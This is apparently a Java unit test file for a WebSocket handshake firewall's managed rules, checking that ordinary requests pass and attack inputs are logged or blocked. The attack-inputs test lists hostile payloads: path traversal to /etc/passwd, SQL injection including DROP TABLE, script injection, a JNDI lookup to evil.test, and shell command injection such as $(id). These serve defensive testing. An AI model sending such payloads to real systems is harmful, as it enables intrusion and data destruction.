package io.tidemark.rules;

import static org.assertj.core.api.Assertions.assertThat;

import io.tidemark.events.v1.HandshakeRules;
import io.tidemark.events.v1.ManagedRule;
import io.tidemark.events.v1.RuleAction;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class ManagedRulesTest {
  private final List<Match> logged = new ArrayList<>();

  private String blocks(Asked asked, HandshakeRules rules) {
    Match match =
        new RuleSet(
                rules,
                List.of("shop.test"),
                problem -> {
                  throw new AssertionError(problem);
                })
            .blocks(asked, logged::add);
    return match == null ? "" : match.rule() + " " + match.status();
  }

  private String blocks(Asked asked) {
    return blocks(asked, HandshakeRules.getDefaultInstance());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "/",
        "/chat?room=5&token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
        "/socket.io/?EIO=4&transport=websocket&sid=abc_D-9",
        "/cable?q=rock%20%26%20roll%20or%20jazz",
        "/ws?name=O%27Brien&note=select%20a%20union%20rep",
        "/hub?id=a%3Db%3Bc&next=%2Fhome%2F..hidden",
        "/live?filter=price%3C100%20and%20size%3E3",
        "/v1/..well-known/...",
        "/graphql?query=%7Bviewer%7Bname%7D%7D&q=1;2;3",
        "/ws?text=100%25%20sure%20(really)",
        "/ws?q=the%20cat%20%26%20id",
        "/ws?q=a%20b&cat-id=5&ping-every=3",
      })
  void ordinaryRequestsPass(String target) {
    assertThat(blocks(Asked.of(target))).isEmpty();
    assertThat(logged).isEmpty();
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "/../../etc/passwd|path-traversal",
        "/chat/..%2f..%2fsecret|path-traversal",
        "/chat?file=%252e%252e%252fsecret|path-traversal",
        "/chat?file=..%5c..%5cboot.ini|path-traversal",
        "/chat?file=x%00.png|path-traversal",
        "/a/..?x=1|path-traversal",
        "/chat?f=/ETC/PASSWD|path-traversal",
        "/chat?id=1%20UNION%20ALL%20SELECT%20name%20FROM%20users|sql-injection",
        "/chat?id=1+union/**/select+1|sql-injection",
        "/chat?id=%27%20or%20%271%27=%271|sql-injection",
        "/chat?id=1;%20DROP%20TABLE%20zones|sql-injection",
        "/chat?id=1%20and%20sleep(10)|sql-injection",
        "/chat?q=%3Cscript%3Ealert(1)%3C/script%3E|script-injection",
        "/chat?q=%253Cimg%20src=x%20onerror=alert(1)%253E|script-injection",
        "/chat?u=JavaScript:alert(1)|script-injection",
        "/chat?u=javascript:location=name|script-injection",
        "/chat?x=%22%20onload=y|script-injection",
        "/chat?q=$%7Bjndi:ldap://evil.test/a%7D|command-injection",
        "/chat?q=;cat%20/etc/hosts;|command-injection",
        "/chat?q=$(id)|command-injection",
        "/chat?q=%7B%7B7*7%7D%7D|command-injection",
      })
  void attacksInTheTargetAreToldAndCanBeBlocked(String target, String rule) {
    assertThat(blocks(Asked.of(target))).isEmpty();
    assertThat(logged).extracting(Match::rule).containsExactly("managed/" + rule);
    assertThat(blocks(Asked.of(target), with(rule, RuleAction.BLOCK).build()))
        .isEqualTo("managed/" + rule + " 403");
  }

  @Test
  void headersThatAreNoHandshakesAreBlocked() {
    Asked good = Asked.of("/");
    assertThat(
            blocks(good.with("origin", "https://shop.test").with("sec-websocket-protocol", "a, b")))
        .isEmpty();
    assertThat(blocks(good.with("sec-websocket-key", "dGhlIHNhbXBsZSBub25jZQ==")))
        .isEqualTo("managed/duplicate-header 400");
    assertThat(blocks(good.with("authorization", "a").with("authorization", "b")))
        .isEqualTo("managed/duplicate-header 400");
    assertThat(blocks(good.with("sec-websocket-protocol", "chat, <b>")))
        .isEqualTo("managed/malformed-handshake 400");
    assertThat(
            blocks(
                good.with("sec-websocket-protocol", "chat")
                    .with("sec-websocket-protocol", "b <b>")))
        .as("on whatever line")
        .isEqualTo("managed/malformed-handshake 400");
    assertThat(blocks(good.with("origin", "not a page")))
        .isEqualTo("managed/malformed-handshake 400");
    assertThat(blocks(good.with("cookie", "x".repeat(9_000))))
        .isEqualTo("managed/oversized-header 431");
    Asked many = good;
    for (int i = 0; i < 61; i++) {
      many = many.with("x-" + i, "1");
    }
    assertThat(blocks(many)).isEqualTo("managed/oversized-header 431");
  }

  @Test
  void pagesOfOtherSitesAreToldAndCanBeBlocked() {
    Asked own = Asked.of("/").with("origin", "https://SHOP.test:8443");
    Asked other = Asked.of("/").with("origin", "https://evil.test");
    Asked sandboxed = Asked.of("/").with("origin", "null");
    assertThat(blocks(own)).isEmpty();
    assertThat(logged).isEmpty();
    assertThat(blocks(other)).isEmpty();
    assertThat(blocks(sandboxed)).isEmpty();
    assertThat(logged)
        .extracting(Match::rule)
        .containsExactly("managed/cross-site", "managed/cross-site");

    HandshakeRules strict = with("cross-site", RuleAction.BLOCK).addOrigins("app.test").build();
    assertThat(blocks(other, strict)).isEqualTo("managed/cross-site 403");
    assertThat(blocks(sandboxed, strict)).isEqualTo("managed/cross-site 403");
    assertThat(blocks(own, strict)).isEmpty();
    assertThat(blocks(Asked.of("/").with("origin", "https://app.test"), strict)).isEmpty();
    assertThat(blocks(Asked.of("/"), strict)).as("no browser").isEmpty();
    for (String disguised :
        List.of(
            "https://evil.test@shop.test.evil.test", "https://shop.test@evil.test", "file://")) {
      assertThat(blocks(Asked.of("/").with("origin", disguised), strict))
          .as(disguised)
          .isEqualTo("managed/cross-site 403");
    }
  }

  @Test
  void aManagedRuleCanBeSwitchedOffOrOnlyLog() {
    Asked asked = Asked.of("/?q=$(id)");
    assertThat(blocks(asked, with("command-injection", RuleAction.OFF_DUTY).build())).isEmpty();
    assertThat(logged).isEmpty();
    assertThat(blocks(asked, with("command-injection", RuleAction.BLOCK).build()))
        .isEqualTo("managed/command-injection 403");
  }

  private static HandshakeRules.Builder with(String id, RuleAction action) {
    return HandshakeRules.newBuilder()
        .addManaged(ManagedRule.newBuilder().setId(id).setAction(action));
  }
}
